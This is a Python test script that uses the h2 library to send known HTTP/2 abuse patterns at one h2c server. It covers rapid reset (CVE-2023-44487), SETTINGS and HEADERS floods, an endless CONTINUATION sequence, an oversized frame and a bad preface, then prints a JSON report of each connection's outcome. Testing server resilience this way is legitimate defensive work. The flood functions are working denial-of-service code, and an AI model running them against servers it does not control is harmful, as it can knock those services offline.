"""HTTP/2 abuse against one h2c (prior knowledge) listener, frame by frame with the `h2` package:
each case opens its own connection and reports how the server ended it. Prints one JSON line:
{case: {"goaway": error code name or null, "closed": bool, "answered": status or null}}.
Cases: a normal request (the control), rapid reset (HEADERS then RST_STREAM, 1000 times: the
CVE-2023-44487 pattern), a SETTINGS flood (10000 without reading the ACKs), CONTINUATION without
END_HEADERS (a header block that never ends), a HEADERS flood past the concurrent-stream limit, a
frame larger than the peer's SETTINGS_MAX_FRAME_SIZE, and a bad preface."""
import json
import socket
import sys

import h2.config
import h2.connection
import h2.events
import h2.exceptions
import h2.frame_buffer
from hyperframe.frame import ContinuationFrame, DataFrame, HeadersFrame, SettingsFrame


def connect(host, port):
    sock = socket.create_connection((host, port), timeout=10)
    conn = h2.connection.H2Connection(config=h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
    conn.initiate_connection()
    sock.sendall(conn.data_to_send())
    return sock, conn


def drain(sock, conn, seconds=5):
    """Reads until the server closes or goes quiet; returns (goaway code, closed, first status)."""
    goaway, status = None, None
    sock.settimeout(seconds)
    try:
        while True:
            data = sock.recv(65536)
            if not data:
                return goaway, True, status
            try:
                events = conn.receive_data(data)
            except h2.exceptions.ProtocolError:
                events = []
            for event in events:
                if isinstance(event, h2.events.ConnectionTerminated):
                    goaway = event.error_code.name if hasattr(event.error_code, "name") else str(event.error_code)
                if isinstance(event, h2.events.ResponseReceived) and status is None:
                    status = int(dict(event.headers).get(":status", "0"))
            try:
                sock.sendall(conn.data_to_send())
            except OSError:
                return goaway, True, status
            if goaway is not None and status is not None:
                return goaway, False, status
    except socket.timeout:
        return goaway, False, status
    except (ConnectionResetError, BrokenPipeError):
        return goaway, True, status


def headers(authority, path="/reviews/0"):
    return [(":method", "GET"), (":scheme", "http"), (":authority", authority), (":path", path)]


def normal(host, port, authority):
    sock, conn = connect(host, port)
    conn.send_headers(1, headers(authority), end_stream=True)
    sock.sendall(conn.data_to_send())
    result = drain(sock, conn, seconds=3)
    sock.close()
    return result


def rapid_reset(host, port, authority):
    sock, conn = connect(host, port)
    stream = 1
    try:
        for _ in range(1000):
            conn.send_headers(stream, headers(authority), end_stream=True)
            conn.reset_stream(stream)
            sock.sendall(conn.data_to_send())
            stream += 2
    except (h2.exceptions.ProtocolError, OSError):
        pass
    result = drain(sock, conn)
    sock.close()
    return result


def settings_flood(host, port, authority):
    sock, conn = connect(host, port)
    raw = SettingsFrame(0).serialize()
    try:
        sock.sendall(raw * 10000)
    except OSError:
        pass
    result = drain(sock, conn)
    sock.close()
    return result


def continuation_without_end(host, port, authority):
    sock, conn = connect(host, port)
    block = conn.encoder.encode(headers(authority))
    first = HeadersFrame(1, data=block[:1], flags=["END_STREAM"])
    frames = first.serialize()
    # The rest of the block as tiny CONTINUATION frames, never END_HEADERS.
    for _ in range(20000):
        frames += ContinuationFrame(1, data=b"\x00").serialize()
    try:
        sock.sendall(frames)
    except OSError:
        pass
    result = drain(sock, conn)
    sock.close()
    return result


def headers_flood(host, port, authority):
    sock, conn = connect(host, port)
    block = conn.encoder.encode(headers(authority))
    frames = b""
    # 1000 streams opened without END_STREAM: past the server's 100 concurrent streams.
    for index in range(1000):
        frames += HeadersFrame(1 + 2 * index, data=block, flags=["END_HEADERS"]).serialize()
    try:
        sock.sendall(frames)
    except OSError:
        pass
    result = drain(sock, conn)
    sock.close()
    return result


def oversized_frame(host, port, authority):
    sock, conn = connect(host, port)
    conn.send_headers(1, headers(authority), end_stream=False)
    sock.sendall(conn.data_to_send())
    frame = DataFrame(1, data=b"x" * 20000).serialize()  # the default SETTINGS_MAX_FRAME_SIZE is 16384
    try:
        sock.sendall(frame)
    except OSError:
        pass
    result = drain(sock, conn)
    sock.close()
    return result


def bad_preface(host, port, authority):
    sock = socket.create_connection((host, port), timeout=10)
    sock.sendall(b"PRI * HTTP/2.0\r\n\r\nXX\r\n\r\n" + b"\x00" * 64)
    sock.settimeout(5)
    data = b""
    try:
        while True:
            chunk = sock.recv(65536)
            if not chunk:
                break
            data += chunk
    except (socket.timeout, ConnectionResetError):
        pass
    sock.close()
    status = int(data.split(b" ")[1]) if data.startswith(b"HTTP/1.1 ") else None
    return None, True, status


def main():
    host, port, authority = sys.argv[1], int(sys.argv[2]), sys.argv[3]
    cases = [normal, rapid_reset, settings_flood, continuation_without_end, headers_flood, oversized_frame, bad_preface]
    report = {}
    for case in cases:
        goaway, closed, status = case(host, port, authority)
        report[case.__name__] = {"goaway": goaway, "closed": closed, "answered": status}
    print(json.dumps(report))


if __name__ == "__main__":
    main()
